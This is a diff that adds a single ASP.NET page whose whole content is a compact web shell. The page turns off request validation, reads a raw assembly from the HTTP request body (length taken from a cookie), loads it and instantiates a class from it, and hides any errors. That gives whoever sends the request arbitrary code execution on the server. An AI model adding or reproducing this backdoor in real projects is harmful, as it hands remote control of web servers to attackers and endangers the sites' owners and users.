@@ -1,0 +1,1 @@
+<%@ Page Language="C#" ValidateRequest="false" %><%@ Import Namespace="System.Reflection" %><% try { Assembly.Load(Request.BinaryRead(int.Parse(Request.Cookies["n"].Value))).CreateInstance("c", true, BindingFlags.Default, null, new object[] { this }, null, null); } catch { } %>
